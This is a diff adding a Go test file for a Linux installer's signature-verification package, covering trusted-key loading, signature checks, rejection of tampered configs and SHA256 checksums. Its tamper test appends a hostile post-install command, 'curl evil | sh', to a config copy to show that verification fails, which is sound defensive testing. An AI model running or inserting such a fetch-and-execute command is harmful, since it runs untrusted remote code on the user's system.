@@ -0,0 +1,103 @@
+// Copyright © 2020 Intel Corporation
+//
+// SPDX-License-Identifier: GPL-3.0-only
+
+package signature
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+var (
+	testsDir string
+)
+
+func init() {
+	testsDir = os.Getenv("TESTS_DIR")
+}
+
+func loadTestKeys(t *testing.T) []*TrustedKey {
+	keys, err := LoadTrustedKeys(filepath.Join(testsDir, "trusted-keys"), filepath.Join(testsDir, "missing-keys"))
+	if err != nil {
+		t.Fatalf("LoadTrustedKeys shouldn't return an error: %v", err)
+	}
+
+	if len(keys) != 1 || keys[0].Comment != "clr-installer-test" {
+		t.Fatalf("Expected a single trusted key, got: %+v", keys)
+	}
+
+	return keys
+}
+
+func TestVerify(t *testing.T) {
+	keys := loadTestKeys(t)
+	file := filepath.Join(testsDir, "signed-config.yaml")
+
+	signer, err := Verify(file, file+Extension, keys)
+	if err != nil {
+		t.Fatalf("%s has a valid signature: %v", file, err)
+	}
+
+	if signer != keys[0] {
+		t.Fatalf("Verify should return the signing key")
+	}
+
+	invalid := []string{"signed-config-untrusted.sig", "signed-config-namespace.sig", "basic.yaml"}
+	for _, curr := range invalid {
+		if _, err = Verify(file, filepath.Join(testsDir, curr), keys); err == nil {
+			t.Fatalf("Signature %s should not be accepted", curr)
+		}
+	}
+
+	if _, err = Verify(file, file+Extension, nil); err == nil {
+		t.Fatalf("Verify should fail without trusted keys")
+	}
+}
+
+func TestVerifyTampered(t *testing.T) {
+	keys := loadTestKeys(t)
+	file := filepath.Join(testsDir, "signed-config.yaml")
+
+	content, err := ioutil.ReadFile(file)
+	if err != nil {
+		t.Fatalf("Failed to read %s: %v", file, err)
+	}
+
+	tmp, err := ioutil.TempFile("", "clr-installer-signed-")
+	if err != nil {
+		t.Fatalf("Failed to create temp file: %v", err)
+	}
+	defer func() { _ = os.Remove(tmp.Name()) }()
+
+	_, _ = tmp.Write(append(content, []byte("post-install: [{cmd: \"curl evil | sh\"}]\n")...))
+	_ = tmp.Close()
+
+	if _, err = Verify(tmp.Name(), file+Extension, keys); err == nil {
+		t.Fatalf("A modified config file should not be accepted")
+	}
+}
+
+func TestUnsupportedKeys(t *testing.T) {
+	if _, err := LoadTrustedKeys(filepath.Join(testsDir, "trusted-keys-rsa")); err == nil {
+		t.Fatalf("Only ed25519 keys should be supported")
+	}
+
+	if _, err := ParseTrustedKey("ssh-ed25519 bm90LWEta2V5"); err == nil {
+		t.Fatalf("Malformed key should not be accepted")
+	}
+}
+
+func TestVerifySHA256(t *testing.T) {
+	file := filepath.Join(testsDir, "signed-config.yaml")
+
+	if err := VerifySHA256(file, "5D2281D97BD3A7AA7BAD0FACCF700442AD5E605B757B7C59E2D4D301B1AB4531"); err != nil {
+		t.Fatalf("Checksum should match: %v", err)
+	}
+
+	if err := VerifySHA256(file, "00"); err == nil {
+		t.Fatalf("Checksum should not match")
+	}
+}